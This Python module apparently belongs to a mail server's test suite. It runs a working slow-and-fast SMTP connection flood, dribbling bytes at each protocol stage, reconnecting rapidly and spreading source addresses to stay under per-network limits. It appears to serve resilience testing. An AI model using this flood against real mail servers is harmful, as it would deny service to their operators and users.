"""A flood of SMTP connections, in a process of its own: slow ones that send a byte each five seconds, and fast ones that
come again as soon as they are gone.

Orders come as one line of JSON; each line of standard input after that is a word: "fast" lets the fast ones begin.
The end of standard input ends the flood; then one line tells what the server said to it.
"""
import asyncio
import collections
import json
import os
import ssl
import subprocess
import sys

SLOW_S = 5
NETWORKS = 150  # of the addresses; so many that no network has more connections than it may
AGAIN_S = 1  # a slow one that was hung up comes back


class Flood:
    """`spread`: each connection from an address of its own, else all from one."""

    def __init__(self, host, recipient, slow, fast, spread):
        self._process = subprocess.Popen([sys.executable, __file__], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                         text=True)
        self._say(json.dumps({"host": host, "recipient": recipient, "slow": slow, "fast": fast, "spread": spread}))
        assert self._process.stdout.readline() == "slow ones are there\n"

    def _say(self, line):
        self._process.stdin.write(line + "\n")
        self._process.stdin.flush()

    def begin_fast(self):
        self._say("fast")
        assert self._process.stdout.readline() == "fast ones are there\n"

    def stop(self):
        self._process.stdin.close()
        told = json.loads(self._process.stdout.read())
        self._process.wait(10)
        return told


class Attack:
    def __init__(self, orders):
        self.orders, self.told = orders, collections.Counter()
        self.trust = ssl.create_default_context()
        self.trust.check_hostname, self.trust.verify_mode = False, ssl.CERT_NONE
        self.begun = collections.Counter()

    def source(self, number):
        return (f"20.1.{100 + number % NETWORKS}.{number // NETWORKS + 1}" if self.orders["spread"] else "20.1.100.1", 0)

    async def open(self, number):
        return await asyncio.open_connection(self.orders["host"], 25, local_addr=self.source(number))

    async def hear(self, reader):
        """One reply; its code is noted."""
        line = await reader.readline()
        while line[3:4] == b"-":
            line = await reader.readline()
        self.told[line[:3].decode() or "end"] += 1
        return line[:1] in (b"2", b"3")

    async def ask(self, reader, writer, command):
        writer.write(command)
        return await self.hear(reader)

    async def dribble(self, reader, writer, data):
        """A byte at a time, until the other side has enough."""
        for byte in data:
            writer.write(bytes([byte]))
            await writer.drain()
            try:
                await asyncio.wait_for(asyncio.shield(asyncio.ensure_future(self.hear(reader))), SLOW_S)
                return
            except TimeoutError:
                pass

    def client_hello(self):
        outgoing = ssl.MemoryBIO()
        tls = self.trust.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=self.orders["host"])
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()

    async def slow_visit(self, number):
        kind = number % 4
        reader, writer = await self.open(number)
        try:
            self.begun["slow"] += 1
            if not await self.hear(reader):
                return
            if kind == 0:
                return await self.dribble(reader, writer, b"EHLO " + b"a" * 200)
            if not await self.ask(reader, writer, b"EHLO flood.test\r\n"):
                return
            if kind == 1:
                return await self.dribble(reader, writer, b"NOOP " + b"a" * 200)
            if not await self.ask(reader, writer, b"STARTTLS\r\n"):
                return
            if kind == 2:
                return await self.dribble(reader, writer, self.client_hello())
            await writer.start_tls(self.trust)
            for command in (b"EHLO flood.test\r\n", b"MAIL FROM:<flood@mail.test>\r\n",
                            f"RCPT TO:<{self.orders['recipient']}>\r\n".encode(), b"DATA\r\n"):
                if not await self.ask(reader, writer, command):
                    return
            await self.dribble(reader, writer, b"Subject: slow\r\n\r\n" + b"a" * 200)
        finally:
            writer.close()

    async def fast_visit(self, number):
        reader, writer = await self.open(number)
        try:
            self.begun["fast"] += 1
            for command in (b"EHLO flood.test\r\n", b"NOOP\r\n", b"VRFY a\r\n", b"RSET\r\n", b"QUIT\r\n"):
                if not await self.hear(reader):
                    return
                writer.write(command)
            await self.hear(reader)
        finally:
            writer.close()

    async def again(self, visit, number, pause):
        while True:
            try:
                await visit(number)
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError) as problem:
                self.told[type(problem).__name__] += 1
            await asyncio.sleep(pause)

    async def run(self):
        words = asyncio.StreamReader()
        await asyncio.get_running_loop().connect_read_pipe(lambda: asyncio.StreamReaderProtocol(words), sys.stdin)
        tasks = [asyncio.create_task(self.again(self.slow_visit, n, AGAIN_S)) for n in range(self.orders["slow"])]
        await self.until("slow")
        print("slow ones are there", flush=True)
        await words.readline()
        first = self.orders["slow"]
        tasks += [asyncio.create_task(self.again(self.fast_visit, first + n, 0.1)) for n in range(self.orders["fast"])]
        await self.until("fast")
        print("fast ones are there", flush=True)
        await words.read()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        print(json.dumps(self.told), flush=True)

    async def until(self, kind):
        while self.begun[kind] < self.orders[kind]:
            await asyncio.sleep(0.05)


if __name__ == "__main__":
    os.nice(5)  # what is measured shall wait for the server, not for the flood's own work
    asyncio.run(Attack(json.loads(sys.stdin.readline())).run())
